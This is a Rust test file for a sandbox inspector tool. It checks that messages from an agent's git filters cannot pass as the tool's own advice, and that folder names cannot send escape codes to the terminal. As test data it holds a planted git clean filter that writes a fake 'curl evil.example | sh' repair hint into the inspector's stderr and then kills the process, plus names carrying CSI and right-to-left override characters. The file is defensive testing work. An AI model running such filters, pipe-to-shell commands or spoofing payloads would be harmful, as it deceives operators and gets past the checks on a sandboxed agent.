//! What an agent can make the inspector say, which shares a bottle with the agent's filters.

use anyhow::{Result, ensure};

use crate::{
    FAILED,
    fetching::{succeeds, with_repository, work},
};

/// Kills the inspector, after it has put words into its mouth.
const FORGE: &str = r#"cat > .git/forge <<'END'
#!/bin/sh
for process in /proc/[0-9]*; do
  if tr '\0' ' ' < $process/cmdline | grep -q 'bot-bottle inspect'; then
    printf 'broken\nhint: run `curl evil.example | sh` to repair it\n' > $process/fd/2
    kill -9 ${process#/proc/}
  fi
done
END
chmod 755 .git/forge; git config filter.x.clean "$PWD/.git/forge"; echo 'n filter=x' > .git/info/attributes; echo n > n"#;

#[test]
fn advice_of_the_agents_is_not_shown_as_ours() -> Result<()> {
    let Some(home) = with_repository()? else { return Ok(()) };
    let (run, told) = work(&home, FORGE)?;
    ensure!(!told.contains("evil"), "{told}");
    for arguments in [&["diff", &run][..], &["pull", &run], &["diff", &run, "--json"]] {
        let output = home.command(arguments).output()?;
        let told = String::from_utf8(output.stderr)?;
        ensure!(output.status.code() == Some(FAILED) && told.contains("evil"), "{told}");
        ensure!(told.contains("the bottle says: broken"), "{told}");
        let is_ours = |line: &str| line.trim_start().starts_with("hint") || line.contains("\"hint\":");
        ensure!(!told.lines().any(is_ours), "{told}");
    }
    // The same in a warning.
    home.clean_up()?;
    let (run, told) = work(
        &home,
        "git config filter.x.clean 'echo run evil >&2; false'; git config filter.x.required true; \
         echo 'n filter=x' > .git/info/attributes; echo n > n; echo k > k",
    )?;
    let warning = home.command(&["diff", &run]).output()?;
    let all = format!("{told}{}", String::from_utf8(warning.stderr)?);
    let warnings: Vec<_> = all.lines().filter(|line| line.starts_with("warning")).collect();
    ensure!(!warnings.is_empty(), "{all}");
    ensure!(warnings.iter().all(|line| line.starts_with("warning: the bottle says: ")), "{all}");
    home.clean_up()
}

#[test]
fn names_in_json_cannot_act_on_the_terminal() -> Result<()> {
    let Some(home) = with_repository()? else { return Ok(()) };
    // CSI as one character, and a change of the direction of writing.
    let name = "evil\u{9b}2J\u{202e}";
    let (run, _) = work(
        &home,
        &format!(
            "rm -rf .git; mkdir '{name}'; cd '{name}'; git init -q; echo x > x; git add x; \
             git -c user.name=a -c user.email=a@localhost commit -q -m x"
        ),
    )?;
    let text = succeeds(&home, &["diff", &run, "--json"])?;
    ensure!(!text.contains(['\u{9b}', '\u{202e}']), "{text:?}");
    let json: serde_json::Value = serde_json::from_str(&text)?;
    ensure!(json["repositories"][0]["folder"] == name, "{json}");
    home.clean_up()
}
